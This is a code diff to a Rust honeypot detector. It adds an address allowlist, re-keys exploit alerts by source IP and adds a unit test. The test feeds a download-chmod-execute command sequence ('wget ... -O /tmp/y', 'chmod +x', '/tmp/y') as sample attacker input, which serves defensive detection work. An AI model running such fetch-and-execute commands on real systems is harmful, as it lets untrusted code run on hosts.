@@ -13,10 +13,12 @@
 
 use crate::tripwire::{SessionRisk, Tripwires};
 use rustc_hash::FxHashMap;
+use std::net::IpAddr;
 use std::sync::Arc;
 use tripline_detect::contract::{DetectorSpec, Placement, Sharding};
 use tripline_detect::{DetectStats, Detector, Output, Roles};
 use tripline_event::catalog::RuleInfo;
+use tripline_event::net::Cidr;
 use tripline_event::{Alert, Entity, Event, HoneypotKind, Kind, Severity, Text};
 
 /// Every technique a session alert may carry (its own are those of what happened).
@@ -44,6 +46,9 @@ pub struct HoneypotDetectConfig {
     pub cooldown_seconds: i64,
     /// Sessions followed at once (the least recently active go first).
     pub max_sessions: usize,
+    /// Addresses that never alert (`[detect] allowlist`, and this host's own with
+    /// `ignore_self`): their events are counted and skipped.
+    pub allow: Vec<Cidr>,
 }
 
 impl Default for HoneypotDetectConfig {
@@ -52,6 +57,7 @@ impl Default for HoneypotDetectConfig {
             threshold: 0.5,
             cooldown_seconds: 1800,
             max_sessions: 10_000,
+            allow: vec![],
         }
     }
 }
@@ -67,7 +73,8 @@ struct Followed {
 pub struct HoneypotDetector {
     cfg: HoneypotDetectConfig,
     sessions: FxHashMap<Arc<str>, Followed>,
-    exploits: Vec<(Alert, bool)>,
+    /// Each address's exploit alert, and whether it grew since the last flush.
+    exploits: FxHashMap<IpAddr, (Alert, bool)>,
     warming: bool,
     stats: DetectStats,
 }
@@ -87,7 +94,7 @@ impl HoneypotDetector {
         HoneypotDetector {
             cfg,
             sessions: FxHashMap::default(),
-            exploits: vec![],
+            exploits: FxHashMap::default(),
             warming: false,
             stats: DetectStats::default(),
         }
@@ -197,8 +204,8 @@ impl HoneypotDetector {
         let evidence: Arc<str> = Arc::from(format!("{detail}: {target}").as_str());
         if let Some((a, dirty)) = self
             .exploits
-            .iter_mut()
-            .find(|(a, _)| a.entity == entity && ev.ts.0 - a.last_seen.0 <= cooldown)
+            .get_mut(&ip)
+            .filter(|(a, _)| ev.ts.0 - a.last_seen.0 <= cooldown)
         {
             a.count += 1;
             a.last_seen = a.last_seen.max(ev.ts);
@@ -214,33 +221,42 @@ impl HoneypotDetector {
             self.stats.alerts_updated += 1;
             return;
         }
-        if self.exploits.len() >= self.cfg.max_sessions {
-            self.exploits
-                .sort_by_key(|(a, _)| std::cmp::Reverse(a.last_seen));
-            self.exploits.truncate(self.cfg.max_sessions / 2);
+        if self.exploits.len() >= self.cfg.max_sessions && !self.exploits.contains_key(&ip) {
+            // the least recently active half goes (their alerts stay as they were flushed)
+            let mut ages: Vec<i64> = self.exploits.values().map(|(a, _)| a.last_seen.0).collect();
+            let mid = ages.len() / 2;
+            let (_, cut, _) = ages.select_nth_unstable(mid);
+            let cut = *cut;
+            self.exploits.retain(|_, (a, _)| a.last_seen.0 > cut);
             self.stats.evictions += 1;
         }
-        self.exploits.push((
-            Alert {
-                id: Alert::make_id(EXPLOIT.id, &entity, ev.ts),
-                rule: Text::const_new(EXPLOIT.id),
-                severity: Severity::High,
-                score: EXPLOIT.score(1),
-                entity,
-                src_ip: Some(ip),
-                user: None,
-                host: ev.host.clone(),
-                sensor: Text::const_new("honeypot"),
-                techniques: tripline_event::Techniques::Borrowed(EXPLOIT.techniques),
-                count: 1,
-                first_seen: ev.ts,
-                last_seen: ev.ts,
-                explanation: format!("{ip} sent an exploit attempt to the HTTP decoy: {detail}"),
-                evidence: vec![evidence],
-                detail: None,
-            },
-            true,
-        ));
+        // a new alert (the address's earlier one, past its cooldown, was flushed already)
+        self.exploits.insert(
+            ip,
+            (
+                Alert {
+                    id: Alert::make_id(EXPLOIT.id, &entity, ev.ts),
+                    rule: Text::const_new(EXPLOIT.id),
+                    severity: Severity::High,
+                    score: EXPLOIT.score(1),
+                    entity,
+                    src_ip: Some(ip),
+                    user: None,
+                    host: ev.host.clone(),
+                    sensor: Text::const_new("honeypot"),
+                    techniques: tripline_event::Techniques::Borrowed(EXPLOIT.techniques),
+                    count: 1,
+                    first_seen: ev.ts,
+                    last_seen: ev.ts,
+                    explanation: format!(
+                        "{ip} sent an exploit attempt to the HTTP decoy: {detail}"
+                    ),
+                    evidence: vec![evidence],
+                    detail: None,
+                },
+                true,
+            ),
+        );
         self.stats.alerts_opened += 1;
     }
 }
@@ -253,6 +269,12 @@ impl Detector for HoneypotDetector {
     fn process(&mut self, ev: &Event, _roles: Roles) {
         let Kind::Honeypot(k) = &ev.kind else { return };
         self.stats.events += 1;
+        if let Some(ip) = ev.src_ip {
+            if self.cfg.allow.iter().any(|c| c.contains(ip)) {
+                self.stats.allowlisted += 1;
+                return;
+            }
+        }
         match k {
             HoneypotKind::Command { input } => self.command(ev, input),
             HoneypotKind::Request {
@@ -284,15 +306,15 @@ impl Detector for HoneypotDetector {
                 }
             }
         }
-        for (a, dirty) in &mut self.exploits {
+        for (a, dirty) in self.exploits.values_mut() {
             if std::mem::take(dirty) {
                 out.push(Output::Alert(a.clone()));
             }
         }
-        if let Some(newest) = self.exploits.iter().map(|(a, _)| a.last_seen.0).max() {
+        if let Some(newest) = self.exploits.values().map(|(a, _)| a.last_seen.0).max() {
             let cooldown = self.cfg.cooldown_seconds * 1_000_000;
             self.exploits
-                .retain(|(a, _)| newest - a.last_seen.0 <= cooldown);
+                .retain(|_, (a, _)| newest - a.last_seen.0 <= cooldown);
         }
         out
     }
@@ -396,6 +418,31 @@ mod tests {
         // another session is another story
         d.process(&cmd("s2", 40, "ls -la"), Roles(Roles::IP));
         assert!(alerts(&mut d).is_empty());
+    }
+
+    #[test]
+    fn an_allowlisted_address_is_counted_and_never_alerts() {
+        let mut d = HoneypotDetector::new(HoneypotDetectConfig {
+            allow: vec![Cidr::parse("203.0.113.0/24").unwrap()],
+            ..Default::default()
+        });
+        for (i, c) in ["wget http://x/y -O /tmp/y", "chmod +x /tmp/y", "/tmp/y"]
+            .iter()
+            .enumerate()
+        {
+            d.process(&cmd("s1", i as i64, c), Roles(Roles::IP));
+        }
+        assert!(alerts(&mut d).is_empty());
+        assert_eq!(d.stats().allowlisted, 3);
+        // the same session from an address not on the list trips the tripwires
+        let mut d = HoneypotDetector::new(HoneypotDetectConfig::default());
+        for (i, c) in ["wget http://x/y -O /tmp/y", "chmod +x /tmp/y", "/tmp/y"]
+            .iter()
+            .enumerate()
+        {
+            d.process(&cmd("s1", i as i64, c), Roles(Roles::IP));
+        }
+        assert_eq!(alerts(&mut d).len(), 1);
     }
 
     #[test]
